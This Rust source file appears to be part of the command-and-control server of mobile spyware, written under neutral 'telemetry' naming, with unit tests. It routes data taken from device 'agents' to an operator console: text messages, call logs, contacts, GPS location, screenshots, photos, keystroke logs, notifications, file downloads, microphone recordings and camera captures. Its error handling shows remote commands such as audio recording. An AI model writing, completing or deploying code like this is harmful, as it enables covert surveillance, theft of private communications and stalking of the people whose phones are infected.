use std::sync::Arc;

use metrics::counter;
use serde_json::{json, Map, Value};
use tracing::{debug, warn};

use crate::protocol::{ServerMessage, TelemetryPayload};
use crate::registry::Registry;

/// Normalizes heterogeneous agent telemetry into controller-facing events
/// and forwards them through the registry's controller slot.
///
/// A malformed field inside one payload is recovered locally (empty
/// substitute, warning, counter) and never affects the connection that sent
/// it.
#[derive(Clone)]
pub struct PayloadRouter {
    registry: Arc<Registry>,
}

impl PayloadRouter {
    pub fn new(registry: Arc<Registry>) -> Self {
        Self { registry }
    }

    /// Routes one payload to the current controller. Returns `false` when no
    /// controller is registered or its channel is gone; the payload is then
    /// dropped. There is no buffering for an absent controller.
    pub fn route(&self, uid: &str, payload: TelemetryPayload) -> bool {
        let kind = payload.kind.clone();
        let Some(controller) = self.registry.controller() else {
            debug!(%uid, %kind, "telemetry dropped: no controller registered");
            return false;
        };
        let event = normalize(uid, payload);
        if !controller.send(event) {
            debug!(%uid, %kind, "telemetry dropped: controller channel closed");
            return false;
        }
        counter!("switchboard_telemetry_routed_total", 1, "kind" => kind);
        true
    }
}

/// Total normalization: every payload maps to exactly one controller event,
/// with kinds outside the fixed set forwarded as an opaque passthrough.
pub fn normalize(uid: &str, payload: TelemetryPayload) -> ServerMessage {
    let TelemetryPayload { kind, mut fields } = payload;
    match kind.as_str() {
        "message_log" => ServerMessage::MessageLog {
            uid: uid.to_string(),
            data: decode_list(uid, &kind, fields.remove("messages")),
        },
        "call_history" => ServerMessage::CallHistory {
            uid: uid.to_string(),
            data: decode_list(uid, &kind, fields.remove("calls")),
        },
        "contact_list" => ServerMessage::ContactList {
            uid: uid.to_string(),
            data: decode_list(uid, &kind, fields.remove("contacts")),
        },
        "location" => location(uid, &mut fields),
        "screenshot" => ServerMessage::Screenshot {
            uid: uid.to_string(),
            image: fields.remove("image").unwrap_or(Value::Null),
            name: take_str(&mut fields, "name"),
        },
        "photo_batch" => ServerMessage::PhotoBatch {
            uid: uid.to_string(),
            data: decode_list(uid, &kind, fields.remove("photos")),
            batch_index: fields.remove("batch_index"),
            total_batches: fields.remove("total_batches"),
            batch_size: fields.remove("batch_size"),
        },
        "photo_batch_complete" => ServerMessage::PhotoBatchComplete {
            uid: uid.to_string(),
            total: fields.remove("total"),
            message: take_str(&mut fields, "message"),
        },
        "file_list" => file_list(uid, fields),
        "installed_apps" => installed_apps(uid, fields),
        "keylog" => keylog(uid, fields),
        "notification" => notification(uid, fields),
        "audio_recording" => ServerMessage::AudioRecording {
            uid: uid.to_string(),
            name: take_str(&mut fields, "name"),
            size: fields.remove("size"),
            duration: fields.remove("duration"),
            audio: fields.remove("audio").unwrap_or(Value::Null),
        },
        "camera_photo" => ServerMessage::CameraPhoto {
            uid: uid.to_string(),
            name: take_str(&mut fields, "name"),
            size: fields.remove("size"),
            facing: take_str(&mut fields, "facing"),
            image: fields.remove("image").unwrap_or(Value::Null),
        },
        "device_error" => ServerMessage::DeviceError {
            uid: uid.to_string(),
            command: take_str(&mut fields, "command"),
            message: take_str(&mut fields, "message")
                .unwrap_or_else(|| "unspecified agent failure".to_string()),
        },
        _ => ServerMessage::Passthrough {
            uid: uid.to_string(),
            kind,
            payload: fields,
        },
    }
}

/// List-shaped fields arrive either already structured or as a JSON-encoded
/// string. Anything that fails to decode becomes an empty list; the event is
/// still forwarded.
fn decode_list(uid: &str, kind: &str, value: Option<Value>) -> Vec<Value> {
    match value {
        None => Vec::new(),
        Some(Value::Array(items)) => items,
        Some(Value::String(text)) => match serde_json::from_str::<Vec<Value>>(&text) {
            Ok(items) => items,
            Err(err) => {
                recover(uid, kind, &format!("invalid encoded list: {err}"));
                Vec::new()
            }
        },
        Some(other) => {
            recover(
                uid,
                kind,
                &format!("expected list or encoded list, got {}", type_name(&other)),
            );
            Vec::new()
        }
    }
}

fn recover(uid: &str, kind: &str, detail: &str) {
    warn!(%uid, %kind, %detail, "telemetry decode failure recovered with empty substitute");
    counter!(
        "switchboard_payload_decode_failures_total",
        1,
        "kind" => kind.to_string()
    );
}

fn type_name(value: &Value) -> &'static str {
    match value {
        Value::Null => "null",
        Value::Bool(_) => "bool",
        Value::Number(_) => "number",
        Value::String(_) => "string",
        Value::Array(_) => "array",
        Value::Object(_) => "object",
    }
}

fn take_str(fields: &mut Map<String, Value>, key: &str) -> Option<String> {
    match fields.remove(key) {
        Some(Value::String(text)) => Some(text),
        Some(other) => {
            // Keep non-string values rather than lose them to a type quirk.
            Some(other.to_string())
        }
        None => None,
    }
}

/// The location payload is one JSON-encoded object re-projected into a fixed
/// triple. A malformed body degrades to an all-null triple, mirroring the
/// empty-substitute policy for lists.
fn location(uid: &str, fields: &mut Map<String, Value>) -> ServerMessage {
    let decoded = match fields.remove("location") {
        Some(Value::Object(map)) => Some(map),
        Some(Value::String(text)) => match serde_json::from_str::<Map<String, Value>>(&text) {
            Ok(map) => Some(map),
            Err(err) => {
                recover(uid, "location", &format!("invalid encoded object: {err}"));
                None
            }
        },
        Some(other) => {
            recover(
                uid,
                "location",
                &format!("expected object or encoded object, got {}", type_name(&other)),
            );
            None
        }
        None => None,
    };
    let decoded = decoded.unwrap_or_default();
    ServerMessage::Location {
        uid: uid.to_string(),
        latitude: decoded.get("lat").and_then(Value::as_f64),
        longitude: decoded.get("lon").and_then(Value::as_f64),
        accuracy: decoded.get("accuracy").and_then(Value::as_f64),
    }
}

/// `file_list` doubles as the carrier for completed downloads: an entry with
/// `action = "download"` and a `file_data` body becomes a `file_download`
/// event instead of a listing.
fn file_list(uid: &str, mut fields: Map<String, Value>) -> ServerMessage {
    let is_download = fields
        .get("action")
        .and_then(Value::as_str)
        .map(|action| action == "download")
        .unwrap_or(false);
    if is_download && fields.contains_key("file_data") {
        return ServerMessage::FileDownload {
            uid: uid.to_string(),
            name: take_str(&mut fields, "name"),
            file_data: fields.remove("file_data").unwrap_or(Value::Null),
            path: take_str(&mut fields, "path"),
            size: fields.remove("size"),
            mime_type: take_str(&mut fields, "mime_type"),
        };
    }
    ServerMessage::FileList {
        uid: uid.to_string(),
        data: decode_list(uid, "file_list", fields.remove("files")),
        path: take_str(&mut fields, "path"),
    }
}

/// Installed apps arrive either single-shot (`apps`) or batched (`batch`
/// plus index/total bookkeeping passed through unmodified).
fn installed_apps(uid: &str, mut fields: Map<String, Value>) -> ServerMessage {
    if let Some(batch) = fields.remove("batch") {
        ServerMessage::InstalledApps {
            uid: uid.to_string(),
            data: None,
            batch: Some(decode_list(uid, "installed_apps", Some(batch))),
            batch_index: fields.remove("batch_index"),
            total_batches: fields.remove("total_batches"),
            total: fields.remove("total"),
            complete: fields.remove("complete").and_then(|v| v.as_bool()),
        }
    } else {
        ServerMessage::InstalledApps {
            uid: uid.to_string(),
            data: Some(decode_list(uid, "installed_apps", fields.remove("apps"))),
            batch: None,
            batch_index: None,
            total_batches: None,
            total: None,
            complete: None,
        }
    }
}

/// Keystroke data is either a batch (`entries`) or a single real-time entry
/// pushed as it occurs; both normalize to the same list shape so the
/// controller never special-cases cardinality.
fn keylog(uid: &str, mut fields: Map<String, Value>) -> ServerMessage {
    let data = if let Some(entries) = fields.remove("entries") {
        decode_list(uid, "keylog", Some(entries))
    } else if fields.contains_key("text") || fields.contains_key("content") {
        let text = take_str(&mut fields, "text")
            .or_else(|| take_str(&mut fields, "content"))
            .unwrap_or_default();
        vec![json!({
            "timestamp": fields.remove("timestamp"),
            "app": take_str(&mut fields, "app").unwrap_or_else(|| "unknown".to_string()),
            "text": text,
            "input_kind": fields
                .remove("input_kind")
                .unwrap_or_else(|| json!("keystroke")),
            "field": fields.remove("field"),
        })]
    } else {
        Vec::new()
    };
    ServerMessage::Keylog {
        uid: uid.to_string(),
        data,
    }
}

/// Notifications follow the same batch-or-single normalization as keylog.
fn notification(uid: &str, mut fields: Map<String, Value>) -> ServerMessage {
    let data = if let Some(entries) = fields.remove("entries") {
        decode_list(uid, "notification", Some(entries))
    } else {
        let timestamp = fields
            .remove("posted_at")
            .or_else(|| fields.remove("timestamp"));
        vec![json!({
            "timestamp": timestamp,
            "app": take_str(&mut fields, "app").unwrap_or_else(|| "unknown".to_string()),
            "title": take_str(&mut fields, "title").unwrap_or_default(),
            "text": take_str(&mut fields, "text")
                .or_else(|| take_str(&mut fields, "extended_text"))
                .unwrap_or_default(),
            "id": fields.remove("id"),
        })]
    };
    ServerMessage::Notification {
        uid: uid.to_string(),
        data,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn payload(kind: &str, body: Value) -> TelemetryPayload {
        let Value::Object(fields) = body else {
            panic!("test payload body must be an object");
        };
        TelemetryPayload {
            kind: kind.to_string(),
            fields,
        }
    }

    #[test]
    fn structured_and_encoded_lists_decode_the_same() {
        let structured = payload("message_log", json!({"messages": [{"from": "x"}]}));
        let encoded = payload("message_log", json!({"messages": "[{\"from\":\"x\"}]"}));
        let expected = ServerMessage::MessageLog {
            uid: "A1".into(),
            data: vec![json!({"from": "x"})],
        };
        assert_eq!(normalize("A1", structured), expected);
        assert_eq!(normalize("A1", encoded), expected);
    }

    #[test]
    fn malformed_list_recovers_to_empty() {
        let event = normalize(
            "A1",
            payload("message_log", json!({"messages": "not valid json"})),
        );
        assert_eq!(
            event,
            ServerMessage::MessageLog {
                uid: "A1".into(),
                data: vec![],
            }
        );
    }

    #[test]
    fn location_is_reprojected_from_encoded_object() {
        let event = normalize(
            "A1",
            payload(
                "location",
                json!({"location": "{\"lat\":52.1,\"lon\":4.3,\"accuracy\":12.5}"}),
            ),
        );
        assert_eq!(
            event,
            ServerMessage::Location {
                uid: "A1".into(),
                latitude: Some(52.1),
                longitude: Some(4.3),
                accuracy: Some(12.5),
            }
        );
    }

    #[test]
    fn malformed_location_degrades_to_null_triple() {
        let event = normalize("A1", payload("location", json!({"location": "{oops"})));
        assert_eq!(
            event,
            ServerMessage::Location {
                uid: "A1".into(),
                latitude: None,
                longitude: None,
                accuracy: None,
            }
        );
    }

    #[test]
    fn photo_batch_bookkeeping_passes_through_unmodified() {
        let event = normalize(
            "A1",
            payload(
                "photo_batch",
                json!({
                    "photos": [{"name": "a.jpg"}],
                    "batch_index": 2,
                    "total_batches": 5,
                    "batch_size": 10
                }),
            ),
        );
        assert_eq!(
            event,
            ServerMessage::PhotoBatch {
                uid: "A1".into(),
                data: vec![json!({"name": "a.jpg"})],
                batch_index: Some(json!(2)),
                total_batches: Some(json!(5)),
                batch_size: Some(json!(10)),
            }
        );
    }

    #[test]
    fn file_download_splits_from_file_list() {
        let download = normalize(
            "A1",
            payload(
                "file_list",
                json!({
                    "action": "download",
                    "name": "notes.txt",
                    "file_data": "aGVsbG8=",
                    "path": "/tmp/notes.txt",
                    "size": 5,
                    "mime_type": "text/plain"
                }),
            ),
        );
        assert_eq!(
            download,
            ServerMessage::FileDownload {
                uid: "A1".into(),
                name: Some("notes.txt".into()),
                file_data: json!("aGVsbG8="),
                path: Some("/tmp/notes.txt".into()),
                size: Some(json!(5)),
                mime_type: Some("text/plain".into()),
            }
        );

        let listing = normalize(
            "A1",
            payload(
                "file_list",
                json!({"action": "list", "files": "[]", "path": "/tmp"}),
            ),
        );
        assert_eq!(
            listing,
            ServerMessage::FileList {
                uid: "A1".into(),
                data: vec![],
                path: Some("/tmp".into()),
            }
        );
    }

    #[test]
    fn installed_apps_batched_form_keeps_bookkeeping() {
        let event = normalize(
            "A1",
            payload(
                "installed_apps",
                json!({
                    "batch": "[{\"app\":\"maps\"}]",
                    "batch_index": 0,
                    "total_batches": 3,
                    "total": 120,
                    "complete": false
                }),
            ),
        );
        assert_eq!(
            event,
            ServerMessage::InstalledApps {
                uid: "A1".into(),
                data: None,
                batch: Some(vec![json!({"app": "maps"})]),
                batch_index: Some(json!(0)),
                total_batches: Some(json!(3)),
                total: Some(json!(120)),
                complete: Some(false),
            }
        );
    }

    #[test]
    fn single_keylog_entry_becomes_a_one_element_list() {
        let event = normalize(
            "A1",
            payload(
                "keylog",
                json!({"text": "hello", "app": "mail", "timestamp": 1700000000}),
            ),
        );
        match event {
            ServerMessage::Keylog { uid, data } => {
                assert_eq!(uid, "A1");
                assert_eq!(data.len(), 1);
                assert_eq!(data[0]["text"], json!("hello"));
                assert_eq!(data[0]["app"], json!("mail"));
                assert_eq!(data[0]["input_kind"], json!("keystroke"));
            }
            other => panic!("unexpected event: {other:?}"),
        }
    }

    #[test]
    fn single_notification_matches_batch_shape() {
        let batch = normalize(
            "A1",
            payload("notification", json!({"entries": [{"title": "hi"}]})),
        );
        let single = normalize(
            "A1",
            payload(
                "notification",
                json!({"posted_at": 1700000001, "app": "chat", "title": "hi", "text": "there"}),
            ),
        );
        let (ServerMessage::Notification { data: batch_data, .. },
             ServerMessage::Notification { data: single_data, .. }) = (batch, single)
        else {
            panic!("unexpected event shapes");
        };
        assert_eq!(batch_data.len(), 1);
        assert_eq!(single_data.len(), 1);
        assert_eq!(single_data[0]["app"], json!("chat"));
        assert_eq!(single_data[0]["timestamp"], json!(1700000001));
    }

    #[test]
    fn device_errors_are_forwarded_not_swallowed() {
        let event = normalize(
            "A1",
            payload(
                "device_error",
                json!({"command": "record_audio", "message": "microphone busy"}),
            ),
        );
        assert_eq!(
            event,
            ServerMessage::DeviceError {
                uid: "A1".into(),
                command: Some("record_audio".into()),
                message: "microphone busy".into(),
            }
        );
    }

    #[test]
    fn unknown_kinds_pass_through_with_raw_fields() {
        let event = normalize(
            "A1",
            payload("thermal_state", json!({"celsius": 41.5})),
        );
        match event {
            ServerMessage::Passthrough { uid, kind, payload } => {
                assert_eq!(uid, "A1");
                assert_eq!(kind, "thermal_state");
                assert_eq!(payload.get("celsius"), Some(&json!(41.5)));
            }
            other => panic!("unexpected event: {other:?}"),
        }
    }

    #[tokio::test]
    async fn routing_requires_a_live_controller() {
        use crate::registry::{ControllerEntry, Registry};
        use crate::protocol::Identity;
        use std::sync::Arc;
        use tokio::sync::mpsc;
        use uuid::Uuid;

        let registry = Arc::new(Registry::new());
        let router = PayloadRouter::new(registry.clone());

        // No controller: dropped.
        assert!(!router.route("A1", payload("message_log", json!({"messages": "[]"}))));

        let (tx, mut rx) = mpsc::unbounded_channel();
        registry.set_controller(ControllerEntry::new(
            Identity {
                email: "op@example.net".into(),
                name: "Operator".into(),
                role: "admin".into(),
            },
            Uuid::new_v4(),
            tx,
        ));

        assert!(router.route("A1", payload("message_log", json!({"messages": "[]"}))));
        let event = rx.recv().await.expect("forwarded event");
        assert_eq!(
            event,
            ServerMessage::MessageLog {
                uid: "A1".into(),
                data: vec![],
            }
        );
    }
}
